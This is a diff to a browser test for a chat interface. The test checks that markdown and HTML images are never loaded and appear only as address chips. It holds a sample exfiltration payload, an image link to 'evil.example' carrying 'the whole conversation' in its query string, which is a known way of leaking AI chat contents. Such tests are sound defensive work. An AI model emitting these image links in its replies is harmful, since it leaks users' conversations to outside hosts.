@@ -211,8 +211,17 @@ def test_other_addresses_are_not_links(chat: Chat) -> None:
 def test_pictures_are_never_loaded(chat: Chat) -> None:
     asked: list[str] = []
     chat.page.on("request", lambda request: asked.append(request.url))
-    told(chat, "![a secret](https://evil.example/?q=the+whole+conversation) <img src=https://evil.example/>")
-    expect(chat.page.locator(".prose a.image")).to_have_text("a secret")
+    address = "https://evil.example/?q=the+whole+conversation"
+    told(chat, f"![a secret]({address}) ![]({address}) <img src=https://evil.example/>")
+    chips = chat.page.locator(".prose a.image")
+    expect(chips).to_have_text(["a secret", address])
+    # where it would lead is seen before it is followed, and once
+    assert chips.evaluate_all(
+        "(chips) => chips.map((chip) => getComputedStyle(chip, '::after').content)"
+    ) == [
+        f'"{address}"',
+        "none",
+    ]
     expect(chat.page.locator(".prose img")).to_have_count(0)
     assert not [url for url in asked if "evil.example" in url]
 
